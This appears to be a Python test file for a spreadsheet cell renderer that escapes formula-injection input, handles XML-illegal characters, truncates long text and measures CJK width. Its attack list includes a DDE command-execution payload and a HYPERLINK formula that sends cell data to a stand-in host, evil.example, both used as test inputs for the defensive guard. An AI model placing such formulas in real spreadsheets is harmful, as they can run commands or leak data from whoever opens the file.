from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from volunteer.render.cells import LONGEST_TEXT, guarded, storable, unguarded, width_of

ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "   \u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    ";=1+1",
    "; =1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"点我")',
    "'=1+1",
    "\ttab first",
    "430502198506150011",
    "0739",
    "12E5",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_is_marked_and_comes_back_unchanged(text):
    assert guarded(text) == "'" + text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "张三",
        "买买提·艾山",
        "13800138000",
        "3.5",
        "0",
        "2026-11-23",
        "a=b",
        "O'Brien",
        "'三·八'红旗手",
    ],
)
def test_an_honest_text_is_left_alone(text):
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(alphabet=st.sampled_from("'=+-@ \t\n\x00\u3000＝;0123456789E张X"), max_size=16))
def test_the_guard_and_its_removal_are_inverses(text):
    assert unguarded(guarded(text)) == text


@given(st.text(max_size=30))
def test_no_guarded_text_starts_as_a_formula(text):
    assert guarded(text).lstrip(" \t\r\n\x00\u00a0\u3000")[:1] not in set("=+-@＝＋－＠")


def test_what_xml_cannot_carry_is_dropped_and_line_breaks_stay():
    assert storable("张\x00三\x0b\ud800\uffff\n李四\t𬭎") == "张三\n李四\t𬭎"


def test_markup_of_the_writer_cannot_be_smuggled_in():
    text = storable("<r><t>x</t></r>")
    assert not (text.startswith("<r>") and text.endswith("</r>"))


@pytest.mark.parametrize("sign", ["长", "𬭎"])
def test_a_text_beyond_the_cell_is_cut_and_says_so(sign):
    cut = storable(sign * 40_000)
    assert len(cut.encode("utf-16-le")) // 2 <= LONGEST_TEXT
    assert cut.endswith(sign + "…")


def test_a_chinese_character_is_two_wide():
    assert width_of("姓名") == 4
    assert width_of("a1") == 2
    assert width_of("短\n更长的一行") == 10
    assert width_of("") == 0
